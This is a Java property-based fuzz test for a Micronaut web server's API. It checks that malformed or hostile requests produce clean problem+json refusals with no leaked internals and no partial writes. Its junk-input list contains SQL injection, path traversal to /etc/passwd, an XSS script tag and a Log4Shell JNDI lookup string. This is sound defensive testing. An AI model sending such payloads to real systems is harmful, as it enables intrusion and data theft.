package org.soptrack.server.http;

import static org.assertj.core.api.Assertions.assertThat;

import io.micronaut.context.ApplicationContext;
import io.micronaut.json.JsonMapper;
import io.micronaut.runtime.server.EmbeddedServer;
import io.micronaut.web.router.Router;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.EdgeCasesMode;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.Tuple;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.soptrack.core.domain.privacy.PersonalDataExport;
import org.soptrack.core.domain.shared.TenantId;
import org.soptrack.core.domain.tenancy.Role;
import org.soptrack.core.service.CorePorts;
import org.soptrack.server.http.RouteTable.Route;
import org.soptrack.server.http.Tenants.Tenant;

/**
 * Fuzzes every route that reads a body, a path id or query parameters, as the owner (who may do everything), with
 * requests built from the route's sample by setting a field to junk, dropping one, adding one, replacing the whole
 * body with junk or with text that is not JSON, or putting junk in a path id or a query parameter. Whatever comes in:
 * no 5xx, every refusal is {@code application/problem+json} without a stack trace or SQL, and a refused request
 * leaves the organization's data exactly as it was. Some changes must always be refused (R-SEC-6): a field given as
 * another JSON type than its own (a number as text, text as a number or an array, 2.5 for a whole number, "true" or 1
 * for a boolean), content after the document, text with a NUL or an unpaired surrogate, a body without its
 * Content-Type. The seed is fixed; {@code -Djqwik.tries.default=N} runs longer (CI runs the count in
 * {@code junit-platform.properties}).
 */
class InputFuzzIT {

    /** What a response may never show: stack frames, exception and driver names, SQL and its errors. */
    private static final Pattern INTERNALS = Pattern.compile(
            "Exception|\\bat (org|java|io|jdk|com)\\.|Caused by|org\\.postgresql|PSQL|SQLState|SQL state|"
                    + "\\bjdbc\\b|syntax error|violates|duplicate key|\\bselect\\b.*\\bfrom\\b|\\binsert into\\b|"
                    + "\\bupdate\\b.*\\bset\\b|org\\.soptrack|io\\.micronaut|com\\.fasterxml",
            Pattern.CASE_INSENSITIVE);

    /** Fields no request body of the API may set; adding one must be refused, never quietly applied. */
    private static final List<String> PRIVILEGED = List.of("id", "organizationId", "tenantId", "status",
            "sopNumber", "role", "ownerId", "memberId", "createdAt", "recordedBy", "deletedAt", "readOnly",
            "subscription", "permissions", "operator", "verifiedAt", "closedAt");

    private static final List<String> NASTY = List.of("", " ", "null", "' OR '1'='1", "'; DROP TABLE special_orders; --",
            "\u0000", "%00", "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://x.example/a}",
            "9".repeat(400), "x".repeat(20_000), "2026-02-30", "-1", "0", "1e999", "NaN", "Infinity", "💥🚗",
            "\uD83D", "P-1D", "PT999999999999H", "+1 (555) 010-0000 ext. 9", "ORDERED", "OWNER", "*",
            "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff", "true", "[]", "{}");

    private static final List<String> QUERY_NAMES = List.of("status", "limit", "after", "from", "to", "format",
            "filter", "rooftopId", "roNumber", "sopNumber", "customerId", "partNumber", "receivedBefore", "actor",
            "action");

    private static FakeIdentityProvider idp;
    private static EmbeddedServer server;
    private static Api api;
    private static CorePorts ports;
    private static Tenant owner;
    private static List<Route> routes;
    private static int refused;

    @BeforeContainer
    static void start() {
        idp = new FakeIdentityProvider();
        server = ApplicationContext.run(EmbeddedServer.class, new HashMap<>(idp.properties()), "test");
        ApplicationContext context = server.getApplicationContext();
        api = new Api(server.getURI(), context.getBean(JsonMapper.class));
        ports = context.getBean(CorePorts.class);
        owner = new Tenants(api, () -> idp.token(c -> c.subject("idp|fuzz").claim("soptrack_operator", true)))
                .signUp("f", "Foxtrot Fuzz Motors", "Fiona Fuzz", "+12175550133");
        routes = RouteTable.routes(server.getApplicationContext().getBean(Router.class)).stream()
                .filter(r -> !r.method().equals("HEAD") && !r.rule().ends())
                .filter(r -> r.hasPathId() || r.rule().body() != null || !r.method().equals("GET")
                        || r.rooftopQuery() || r.path().matches(".*/(sops|audit|deliveries|requests|policy|export)$"))
                .toList();
        assertThat(data().get("customers")).as("the fixture's data the fuzzer guards").isNotEmpty();
    }

    @AfterContainer
    static void stop() {
        System.out.printf("Input fuzzing: %d routes, %d requests refused with a problem%n", routes.size(), refused);
        server.getApplicationContext().close();
        idp.stop();
    }

    /** How a request departs from the route's sample. */
    enum Change {
        SET_FIELD, DROP_FIELD, ADD_FIELD, JUNK_BODY, NOT_JSON, JUNK_PATH_ID, JUNK_QUERY,
        WRONG_TYPE(true), TRAILING_CONTENT(true), BAD_TEXT(true), NO_CONTENT_TYPE(true);

        /** Whether every request so changed must be refused, whatever the junk. */
        final boolean refused;

        Change() {
            this(false);
        }

        Change(boolean refused) {
            this.refused = refused;
        }
    }

    /** One fuzzed request. */
    record Fuzzed(Route route, Change change, int pick, Object junk, String text) {
        @Override
        public String toString() {
            String shown = String.valueOf(junk);
            return route.key() + " " + change + " #" + pick + " = "
                    + (shown.length() > 80 ? shown.substring(0, 80) + "…" : shown);
        }
    }

    @Provide
    Arbitrary<Fuzzed> requests() {
        return Combinators.combine(Arbitraries.of(routes), Arbitraries.of(Change.class),
                        Arbitraries.integers().between(0, 1000), junk(3), text())
                .as(Fuzzed::new);
    }

    private static Arbitrary<Object> junk(int depth) {
        List<Arbitrary<?>> leaves = List.of(Arbitraries.of(NASTY), Arbitraries.strings().ofMaxLength(30),
                Arbitraries.integers(), Arbitraries.longs(), Arbitraries.doubles(),
                Arbitraries.bigDecimals().between(new BigDecimal("-1e30"), new BigDecimal("1e30")),
                Arbitraries.of(true, false), Arbitraries.just(new BigDecimal("1e400")));
        Arbitrary<Object> leaf = Arbitraries.oneOf(leaves.stream().map(a -> a.map(v -> (Object) v)).toList())
                .injectNull(0.1);
        if (depth == 0) {
            return leaf;
        }
        Arbitrary<Object> list = junk(depth - 1).list().ofMaxSize(4).map(v -> v);
        Arbitrary<Object> map = Arbitraries.maps(Arbitraries.of(QUERY_NAMES), junk(depth - 1)).ofMaxSize(3)
                .map(v -> v);
        return Arbitraries.frequencyOf(
                Tuple.of(6, leaf), Tuple.of(1, list), Tuple.of(1, map));
    }

    private static Arbitrary<String> text() {
        return Arbitraries.oneOf(Arbitraries.of("{", "{\"a\":", "[1,2", "nul", "\"unterminated", "{}}", "{\"x\":1,}",
                        "<xml/>", "\u0000\u0001", "{\"version\": 01}", "{\"a\":\"\\ud800\"}"),
                Arbitraries.strings().ofMaxLength(60));
    }

    @Property(seed = "20261123", shrinking = ShrinkingMode.OFF, edgeCases = EdgeCasesMode.NONE)
    void no_request_breaks_the_server_or_half_writes(@ForAll("requests") Fuzzed fuzzed) {
        Route route = fuzzed.route();
        Map<String, String> ids = owner.ids();
        String path = RouteTable.path(route, ids);
        Object body = RouteTable.body(route, ids);
        boolean readsFields = body instanceof Map<?, ?> sample && !sample.isEmpty();
        if (fuzzed.change().refused && !readsFields) {
            // Only a route that reads a body's fields can be held to refusing them.
            fuzzed = new Fuzzed(route, Change.SET_FIELD, fuzzed.pick(), fuzzed.junk(), fuzzed.text());
        }
        switch (fuzzed.change()) {
            case WRONG_TYPE -> body = mistype(body, fuzzed.pick());
            case BAD_TEXT -> body = badText(body, fuzzed.pick());
            case TRAILING_CONTENT -> body = json(body) + " " + (fuzzed.text().isBlank() ? "{}" : fuzzed.text());
            default -> { }
        }
        switch (fuzzed.change()) {
            case SET_FIELD, DROP_FIELD, ADD_FIELD -> body = changeField(body, fuzzed);
            case JUNK_BODY -> body = fuzzed.junk() instanceof String s ? s : fuzzed.junk();
            case NOT_JSON -> body = fuzzed.text();
            case JUNK_PATH_ID -> path = junkPathId(route, path, fuzzed);
            case JUNK_QUERY -> path = path + (path.contains("?") ? "&" : "?")
                    + QUERY_NAMES.get(fuzzed.pick() % QUERY_NAMES.size()) + "=" + encode(String.valueOf(fuzzed.junk()));
            default -> { }
        }
        if (body instanceof String s && fuzzed.change() == Change.JUNK_BODY) {
            body = "\"" + s.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
        }
        Map<String, List<Map<String, Object>>> before = data();
        String token = owner.tokens().get(Role.OWNER);
        Api.Answer answer = fuzzed.change() == Change.NO_CONTENT_TYPE
                ? api.raw(route.method(), path, token, json(body).getBytes(StandardCharsets.UTF_8), Map.of())
                : api.send(route.method(), path, token, body);
        assertThat(answer.status()).as("%s → %s", fuzzed, answer).isBetween(fuzzed.change().refused ? 400 : 200, 499);
        assertThat(String.valueOf(answer.body())).as("%s → %s", fuzzed, answer).doesNotContainPattern(INTERNALS);
        if (answer.status() >= 400) {
            refused++;
            assertThat(answer.contentType()).as("%s → %s", fuzzed, answer).startsWith("application/problem+json");
            assertThat(changes(before, data())).as("%s → %s left a partial write", fuzzed, answer).isEmpty();
        }
    }

    /**
     * Mass assignment: each route's sample with one privileged field added (a status, an owner, another organization)
     * is refused as a whole, and nothing changes.
     */
    @Example
    void no_body_sets_a_field_it_does_not_declare() {
        int cases = 0;
        for (Route route : routes) {
            // A route whose sample declares no field reads no body, so there is nothing it could assign.
            if (!(RouteTable.body(route, owner.ids()) instanceof Map<?, ?> sample) || sample.isEmpty()
                    || route.rule().ends()) {
                continue;
            }
            for (String field : PRIVILEGED) {
                if (sample.containsKey(field)) {
                    continue;
                }
                Map<String, Object> body = new LinkedHashMap<>();
                sample.forEach((k, v) -> body.put(String.valueOf(k), v));
                body.put(field, field.endsWith("Id") ? owner.ids().get("member") : "OWNER");
                Map<String, List<Map<String, Object>>> before = data();
                Api.Answer answer = api.send(route.method(), RouteTable.path(route, owner.ids()),
                        owner.tokens().get(Role.OWNER), body);
                assertThat(answer.status()).as("%s with %s → %s", route.key(), field, answer).isBetween(400, 499);
                assertThat(changes(before, data())).as("%s with %s changed data", route.key(), field).isEmpty();
                cases++;
            }
        }
        System.out.printf("Mass assignment: %d requests with a field their route does not declare%n", cases);
        assertThat(cases).isGreaterThan(routes.size());
    }

    /** The sample with one field (nested ones included) given as another JSON type than its own. */
    private static Object mistype(Object body, int pick) {
        return replaceLeaf(body, pick, value -> {
            List<Object> wrong;
            if (value instanceof String text) {
                wrong = List.of(List.of(text), 12.5, true, 7);
            } else if (value instanceof Integer number) {
                wrong = List.of(String.valueOf(number), number + 0.5, true, List.of(number));
            } else if (value instanceof Boolean flag) {
                wrong = List.of(String.valueOf(flag), flag ? 1 : 0, List.of(flag));
            } else if (value instanceof List<?> list) {
                wrong = List.of(list.isEmpty() ? "x" : String.valueOf(list.get(0)), 3, Map.of());
            } else {
                wrong = List.of("x", 4, List.of());
            }
            return wrong.get(pick % wrong.size());
        });
    }

    private static final String MARK = "@@bad-text@@";

    /**
     * The sample as JSON text with one field's text holding a NUL character or an unpaired surrogate, written as JSON
     * escapes (a Java string with a lone surrogate cannot be encoded to send).
     */
    private static String badText(Object body, int pick) {
        List<String> bad = List.of("\\u0000", "\\ud800", "\\udfff", "x\\ud83d");
        Object marked = replaceLeaf(body, pick, value -> value instanceof String text ? text + MARK : List.of(MARK));
        return json(marked).replace(MARK, bad.get(pick % bad.size()));
    }

    /** A copy of the sample with the {@code pick}-th field (depth first, nested objects included) replaced. */
    private static Object replaceLeaf(Object body, int pick, java.util.function.UnaryOperator<Object> replace) {
        Map<String, Object> copy = deepCopy((Map<?, ?>) body);
        List<List<String>> paths = new ArrayList<>();
        collect(copy, new ArrayList<>(), paths);
        List<String> path = paths.get(pick % paths.size());
        Map<String, Object> at = copy;
        for (String key : path.subList(0, path.size() - 1)) {
            @SuppressWarnings("unchecked")
            Map<String, Object> nested = (Map<String, Object>) at.get(key);
            at = nested;
        }
        String last = path.get(path.size() - 1);
        at.put(last, replace.apply(at.get(last)));
        return copy;
    }

    private static void collect(Map<String, Object> map, List<String> prefix, List<List<String>> paths) {
        new TreeMap<>(map).forEach((key, value) -> {
            List<String> path = new ArrayList<>(prefix);
            path.add(key);
            paths.add(path);
            if (value instanceof Map<?, ?> nested && !nested.isEmpty()) {
                @SuppressWarnings("unchecked")
                Map<String, Object> typed = (Map<String, Object>) nested;
                collect(typed, path, paths);
            }
        });
    }

    private static String json(Object body) {
        try {
            return server.getApplicationContext().getBean(JsonMapper.class).writeValueAsString(body);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    private static Object changeField(Object body, Fuzzed fuzzed) {
        Map<String, Object> copy = body instanceof Map<?, ?> map ? deepCopy(map) : new LinkedHashMap<>();
        List<String> fields = new ArrayList<>(new TreeMap<>(copy).keySet());
        if (fuzzed.change() == Change.ADD_FIELD || fields.isEmpty()) {
            copy.put(QUERY_NAMES.get(fuzzed.pick() % QUERY_NAMES.size()) + "X", fuzzed.junk());
            return copy;
        }
        String field = fields.get(fuzzed.pick() % fields.size());
        Object value = copy.get(field);
        if (value instanceof Map<?, ?> nested && !nested.isEmpty() && fuzzed.pick() % 2 == 0) {
            copy.put(field, changeField(nested, new Fuzzed(fuzzed.route(), fuzzed.change(), fuzzed.pick() / 2,
                    fuzzed.junk(), fuzzed.text())));
        } else if (fuzzed.change() == Change.DROP_FIELD) {
            copy.remove(field);
        } else {
            copy.put(field, fuzzed.junk());
        }
        return copy;
    }

    private static Map<String, Object> deepCopy(Map<?, ?> map) {
        Map<String, Object> copy = new LinkedHashMap<>();
        map.forEach((k, v) -> copy.put(String.valueOf(k), v instanceof Map<?, ?> m ? deepCopy(m) : v));
        return copy;
    }

    private static String junkPathId(Route route, String path, Fuzzed fuzzed) {
        if (!route.hasPathId()) {
            return path + "/" + encode(String.valueOf(fuzzed.junk()));
        }
        String[] segments = path.split("\\?", 2)[0].split("/");
        List<Integer> variables = new ArrayList<>();
        String[] template = route.path().split("/");
        for (int i = 0; i < template.length; i++) {
            if (template[i].startsWith("{")) {
                variables.add(i);
            }
        }
        segments[variables.get(fuzzed.pick() % variables.size())] = encode(String.valueOf(fuzzed.junk()));
        String query = path.contains("?") ? "?" + path.split("\\?", 2)[1] : "";
        return String.join("/", segments) + query;
    }

    private static String encode(String text) {
        String encoded = URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
        return encoded.isEmpty() ? "%20" : encoded;
    }

    /** The rows that differ, per entity: what {@code after} has that {@code before} has not, and the other way. */
    private static List<String> changes(Map<String, List<Map<String, Object>>> before,
                                        Map<String, List<Map<String, Object>>> after) {
        List<String> changes = new ArrayList<>();
        Set<String> entities = new TreeSet<>(before.keySet());
        entities.addAll(after.keySet());
        for (String entity : entities) {
            List<Map<String, Object>> was = before.getOrDefault(entity, List.of());
            List<Map<String, Object>> is = after.getOrDefault(entity, List.of());
            is.stream().filter(row -> !was.contains(row)).forEach(row -> changes.add("+ " + entity + " " + row));
            was.stream().filter(row -> !is.contains(row)).forEach(row -> changes.add("- " + entity + " " + row));
        }
        return changes;
    }

    /**
     * Everything the organization holds, as its export shows it, except what records a refusal on purpose: a failed
     * password check is audited and counts towards the lockout (R-SEC-2), which may lock the account.
     */
    private static Map<String, List<Map<String, Object>>> data() {
        TenantId tenant = TenantId.parse(owner.org().id());
        PersonalDataExport export = ports.transactions().inTenant(tenant,
                () -> ports.personalData().exportOrganization(tenant, Instant.EPOCH));
        Map<String, List<Map<String, Object>>> data = new TreeMap<>(export.entities());
        data.computeIfPresent("audit_events", (entity, rows) -> rows.stream()
                .filter(row -> !String.valueOf(row.get("action")).endsWith("_FAILED")
                        && !"ACCOUNT_LOCKED".equals(row.get("action"))).toList());
        data.computeIfPresent("credentials", (entity, rows) -> rows.stream()
                .map(row -> without(row, "failed_attempts", "last_failed_at", "locked_until", "version")).toList());
        return data;
    }

    private static Map<String, Object> without(Map<String, Object> row, String... columns) {
        Map<String, Object> kept = new LinkedHashMap<>(row);
        List.of(columns).forEach(kept::remove);
        return kept;
    }
}
